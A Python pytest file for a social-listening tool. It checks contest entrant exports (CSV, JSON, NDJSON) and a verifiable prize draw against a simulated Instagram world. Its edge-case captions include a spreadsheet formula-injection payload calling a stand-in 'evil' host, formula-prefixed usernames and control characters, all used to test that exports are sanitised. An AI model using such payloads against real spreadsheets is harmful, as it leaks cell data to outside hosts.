"""An independent check of the entrant lists against the simulator's ground truth.

A simulated world (hashtag streams, posts tagging the brand, @mention webhooks, and a few
hand-made edge cases) is polled into the store by the worker's own feeds and inbox. The test
then decides who should be an entrant from the world's own records, by CONTRACT.md's rules, in
plain code of its own (``listener.enrich.contests`` is not used), and compares that with what
``listener export entrants`` writes in CSV, JSON and NDJSON, entry for entry. Finally a draw is
committed, drawn and verified from that list with the command line.

What the worker can know is modelled honestly: Meta names the author of a media only through
``/tags`` (the brand is photo-tagged) or a mention (of the brand, in the caption or in a
comment); a media seen only under a hashtag has no known author, whatever the world knows.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import re
import subprocess
import sys
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from pymongo.asynchronous.database import AsyncDatabase

from listener.contests.campaigns import campaigns
from listener.enrich.draw import DrawRecord
from listener.enrich.enricher import Enricher
from listener.graph.instagram import HashtagEdge
from listener.metrics import Metrics
from listener.models import WebhookEvent
from listener.pollers.hashtags import HashtagFeed, HashtagIds
from listener.pollers.inbox import InboxWorker
from listener.pollers.ingest import Ingestor
from listener.pollers.quota import HashtagQuota
from listener.pollers.tags import TagsFeed
from listener.settings import Settings
from listener.simulator import SimulatorConfig
from listener.simulator.content import Post
from listener.simulator.webhooks import Deliverer
from listener.store.mongo import Document
from listener.store.store import Store
from listener.web.payload import event_key
from tests.contests.campaign import parse
from tests.graphsim import APP_SECRET, BRAND, NOW, OTHER, Graph, poller_context

pytestmark = pytest.mark.slow

HASHTAGS = ("summerdrop", "sunset")
STARTS_AT = NOW - timedelta(hours=10)
ENDS_AT = NOW + timedelta(days=1)
EXCLUDED = ("brand", "staff.member")
CAMPAIGNS: dict[str, dict[str, Any]] = {
    "open": {"min_mentions": 1, "unknown_authors": "eligible"},
    "known-only": {"min_mentions": 0, "unknown_authors": "ineligible"},
}
SEED = "ground truth seed"
OWASP = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def sim_config() -> SimulatorConfig:
    """A world with 20 hours of #summerdrop and #sunset posts and posts tagging the brand."""
    return SimulatorConfig(
        seed=2026,
        accounts=(BRAND, OTHER),
        hashtag_rates={"summerdrop": 10.0, "sunset": 5.0},
        default_rate_per_hour=0.0,
        backfill_hours=20.0,
        tag_rate_per_hour=4.0,
        app_secret=APP_SECRET,
    )


def settings_for(mongo_uri: str, database: AsyncDatabase[Document]) -> Settings:
    """The brand listening to both hashtags, /tags and mentions; the two campaigns."""
    return Settings(
        store={"mongodb_uri": mongo_uri, "database": database.name},
        accounts=[
            {
                "name": "brand",
                "ig_user_id": BRAND.ig_user_id,
                "username": BRAND.username,
                "hashtags": list(HASHTAGS),
            }
        ],
        campaigns=[
            {
                "id": campaign_id,
                "account": "brand",
                "hashtags": ["summerdrop"],
                "starts_at": STARTS_AT,
                "ends_at": ENDS_AT,
                "exclude_usernames": list(EXCLUDED),
                "one_entry_per_user": True,
                **rules,
            }
            for campaign_id, rules in CAMPAIGNS.items()
        ],
    )


def config_file(settings: Settings, folder: Path) -> Path:
    """The same settings as a TOML file for the command line."""
    account = settings.accounts[0]
    lines = [
        "[store]",
        f'mongodb_uri = "{settings.store.mongodb_uri.get_secret_value()}"',
        f'database = "{settings.store.database}"',
        "[[accounts]]",
        f'name = "{account.name}"',
        f'ig_user_id = "{account.ig_user_id}"',
        f'username = "{account.username}"',
        f"hashtags = {json.dumps(account.hashtags)}",
    ]
    for campaign in settings.campaigns:
        lines += [
            "[[campaigns]]",
            f'id = "{campaign.id}"',
            'account = "brand"',
            f"hashtags = {json.dumps(campaign.hashtags)}",
            f"starts_at = {campaign.starts_at.isoformat()}",
            f"ends_at = {campaign.ends_at.isoformat()}",
            f"min_mentions = {campaign.min_mentions}",
            f"exclude_usernames = {json.dumps(campaign.exclude_usernames)}",
            f'unknown_authors = "{campaign.unknown_authors}"',
        ]
    path = folder / "listener.toml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def edge_cases(graph: Graph) -> None:
    """Hand-made posts tagging the brand: hostile text, a repeat author, an excluded one."""
    tagged = [BRAND.ig_user_id]
    posts = [
        ('=HYPERLINK("http://evil/?"&A1,"win") #summerdrop @ana', "=cmd.user", 30),
        ('-2+3 #SummerDrop, "quoted"\nsecond line @bo', "+plus.user", 40),
        ("\u202eevil\u202c 🎉 nul\0here #summerdrop @cy", "@at.user", 50),
        ("first entry #summerdrop @dee", "dup.author", 60),
        ("second entry #summerdrop @eve", "dup.author", 70),
        ("staff post #summerdrop @fay", "staff.member", 80),
        ("#summerdrop tagging myself @self.tagger", "self.tagger", 90),
        ("#summerdrop only an e-mail bob@example.com", "mail.user", 100),
    ]
    for caption, username, minutes_ago in posts:
        graph.world.add_post(
            timestamp=NOW - timedelta(minutes=minutes_ago),
            caption=caption,
            username=username,
            hashtags=["summerdrop"],
            tagged_accounts=tagged,
        )
    # The same author under the hashtag only: the worker cannot tell it is dup.author.
    graph.world.add_post(
        timestamp=NOW - timedelta(minutes=65),
        caption="hashtag only #summerdrop @gus",
        username="dup.author",
        hashtags=["summerdrop"],
    )


def mentions(graph: Graph, count: int) -> tuple[list[WebhookEvent], set[str]]:
    """``count`` mentions of the brand published a minute apart, as Meta's webhook would tell
    them; the events and the ids of the media whose author they reveal."""
    deliverer = Deliverer(graph.world, graph.clock, "http://unused", mentions_per_hour=0, seed=9)
    events, revealed = [], set()
    for _ in range(count):
        media_id, comment_id = deliverer.publish(BRAND.ig_user_id)
        value = {"media_id": media_id} | ({"comment_id": comment_id} if comment_id else {})
        events.append(
            WebhookEvent(
                key=event_key(BRAND.ig_user_id, "mentions", value),
                field="mentions",
                ig_user_id=BRAND.ig_user_id,
                media_id=media_id,
                comment_id=comment_id,
                value=value,
            )
        )
        revealed.add(media_id)  # a comment mention stores the media commented on, with its author
        graph.clock.advance(timedelta(minutes=1))
    return events, revealed


async def poll_everything(
    graph: Graph, store: Store, metrics: Metrics, settings: Settings, events: list[WebhookEvent]
) -> None:
    """Every feed of the brand once, and every mention event through the inbox worker."""
    ingestor = Ingestor(store, metrics, Enricher(None, campaigns(settings)))
    context = poller_context(graph, store, metrics, ingestor=ingestor)
    ids = HashtagIds(graph.api, store, graph.clock)
    quota = HashtagQuota(store, metrics, graph.clock)
    common: dict[str, Any] = {
        "account": "brand",
        "interval_s": 300,
        "page_size": 50,
        "max_pages": 100,
    }
    edges: tuple[HashtagEdge, ...] = ("recent_media", "top_media")
    for hashtag in HASHTAGS:
        for edge in edges:
            feed = HashtagFeed(context, ids=ids, quota=quota, hashtag=hashtag, edge=edge, **common)
            await feed.poll()
    await TagsFeed(context, **common).poll()
    inbox = InboxWorker(
        context,
        accounts_by_ig_id={BRAND.ig_user_id: "brand"},
        mentions_on=["brand"],
    )
    await store.inbox.add(events, graph.clock())
    while claimed := await store.inbox.claim(inbox.name, graph.clock(), timedelta(minutes=5)):
        assert await inbox.process(claimed) == "hydrated"


@dataclass(frozen=True)
class Truth:
    """One media the worker stored, as the world knows it, and whether the worker can know
    who posted it."""

    post: Post
    author_known: bool

    @property
    def author(self) -> str | None:
        return self.post.username.lower() if self.author_known else None


def caption_hashtags(caption: str) -> set[str]:
    """``#word`` runs of the caption, compared case-insensitively (CONTRACT.md)."""
    return {tag.casefold() for tag in re.findall(r"(?<![\w#])#(\w+)", caption)}


def caption_handles(caption: str) -> set[str]:
    """Distinct @handles of the caption (not e-mail addresses), lower case."""
    found = re.findall(r"(?<![\w@])@([A-Za-z0-9._]+)", caption)
    return {handle.rstrip(".").lower() for handle in found}


def entrants(truths: list[Truth], min_mentions: int, unknown_authors: str) -> list[Truth]:
    """CONTRACT.md's rules for ``[[campaigns]]``, in publication order."""
    passing = []
    for truth in truths:
        post = truth.post
        not_counted = {BRAND.username} | ({truth.author} if truth.author else set())
        if (
            "summerdrop" in caption_hashtags(post.caption)
            and STARTS_AT <= post.timestamp < ENDS_AT
            and len(caption_handles(post.caption) - not_counted) >= min_mentions
            and truth.author not in EXCLUDED
            and (truth.author_known or unknown_authors == "eligible")
        ):
            passing.append(truth)
    passing.sort(key=lambda t: (t.post.timestamp, t.post.id))
    seen: set[str] = set()
    kept = []
    for truth in passing:  # one entry per user: where the author is known, the earliest
        if truth.author is not None:
            if truth.author in seen:
                continue
            seen.add(truth.author)
        kept.append(truth)
    return kept


def expected_rows(kept: list[Truth]) -> list[dict[str, Any]]:
    """The contract's columns of each entrant, numbered in publication order."""
    return [
        {
            "entry_number": number,
            "media_id": truth.post.id,
            "permalink": truth.post.permalink,
            "username": truth.post.username if truth.author_known else "",
            "timestamp": truth.post.timestamp.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "caption": truth.post.caption,
        }
        for number, truth in enumerate(kept, start=1)
    ]


async def listener(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """``python -m listener ARGS``, in a thread: a blocked event loop would starve the test
    client's heartbeats, and the driver would then cancel the database's drop at teardown."""
    return await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "listener", *args],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=cwd,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
        check=False,
    )


def as_contract_rows(rows: list[dict[str, Any]], fmt: str) -> list[dict[str, Any]]:
    """The contract's columns of exported rows; CSV cells read as text (one leading ' off)."""
    if fmt != "csv":
        return [{key: row[key] for key in ("entry_number", *CONTRACT_TEXT)} for row in rows]
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in OWASP, cell
    return [
        {"entry_number": int(row["entry_number"])}
        | {key: row[key].removeprefix("'") for key in CONTRACT_TEXT}
        for row in rows
    ]


CONTRACT_TEXT = ("media_id", "permalink", "username", "timestamp", "caption")


@pytest.fixture
def settings(mongo_uri: str, database: AsyncDatabase[Document]) -> Settings:
    """The brand and its two campaigns on the test's database."""
    return settings_for(mongo_uri, database)


async def test_entrant_lists_agree_with_the_ground_truth_and_draw(
    graph: Graph, store: Store, metrics: Metrics, settings: Settings, tmp_path: Path
) -> None:
    """CSV, JSON and NDJSON exports list exactly the ground truth's entrants; a draw verifies."""
    edge_cases(graph)
    events, revealed = mentions(graph, 40)
    await poll_everything(graph, store, metrics, settings, events)
    now = graph.clock()

    hashtag_posts = {
        post.id: post
        for tag in HASHTAGS
        for listing in (graph.world.recent_media, graph.world.top_media)
        for post in listing(graph.world.hashtag_id(tag), now)
    }
    tagged = {post.id: post for post in graph.world.tagged_media(BRAND.ig_user_id, now)}
    mentioned = {media_id: graph.world.post(media_id) for media_id in revealed}
    seen = {**hashtag_posts, **tagged, **{k: v for k, v in mentioned.items() if v is not None}}
    assert await store.media.ids() == set(seen)  # every feed was read to its end
    truths = [Truth(post, post.id in tagged or post.id in revealed) for post in seen.values()]
    unknown = sum(not t.author_known for t in truths)
    assert unknown > 20  # both kinds of entry are well represented
    assert len(truths) - unknown > 20

    config = config_file(settings, tmp_path)
    for campaign_id, rules in CAMPAIGNS.items():
        kept = entrants(truths, rules["min_mentions"], rules["unknown_authors"])
        assert len(kept) > 10, campaign_id
        expected = expected_rows(kept)
        for fmt in ("csv", "json", "ndjson"):
            out = tmp_path / f"{campaign_id}.{fmt}"
            result = await listener(
                "export", "entrants", "--config", str(config), "--campaign", campaign_id,
                "--format", fmt, "--output", str(out), cwd=tmp_path,
            )  # fmt: skip
            assert result.returncode == 0, result.stderr
            rows = as_contract_rows(parse(out.read_bytes(), fmt), fmt)
            assert rows == expected, (campaign_id, fmt)
            known = sum(t.author_known for t in kept)
            assert f"{len(kept)} entrants; author known for {known} " in result.stderr

    known_only = {t.post.id for t in entrants(truths, 0, "ineligible")}
    assert all(t.author_known for t in truths if t.post.id in known_only)
    open_ids = {t.post.id: t for t in entrants(truths, 1, "eligible")}
    assert any(not t.author_known for t in open_ids.values())  # hashtag-only entrants count

    seed_hash = hashlib.sha256(SEED.encode()).hexdigest()
    committed = await listener(
        "draw", "commit", "--config", str(config), "--campaign", "open", "--seed-hash", seed_hash,
        cwd=tmp_path,
    )  # fmt: skip
    assert committed.returncode == 0, committed.stderr
    drawn = await listener(
        "draw", "--config", str(config), "--campaign", "open", "--winners", "5",
        "--alternates", "5", "--seed", SEED, cwd=tmp_path,
    )  # fmt: skip
    assert drawn.returncode == 0, drawn.stderr
    record = DrawRecord.from_json((tmp_path / "open-draw.json").read_text(encoding="utf-8"))
    assert {e.entry_id: e.verify_author for e in record.drawn} == {
        i: not open_ids[i].author_known for i in (*record.winners, *record.alternates)
    }
    verified = await listener(
        "draw", "verify", "open-draw.json", "--entrants", "open-entrants.csv", cwd=tmp_path
    )
    assert verified.returncode == 0, verified.stdout
    assert (tmp_path / "open-entrants.csv").read_bytes() == (tmp_path / "open.csv").read_bytes()
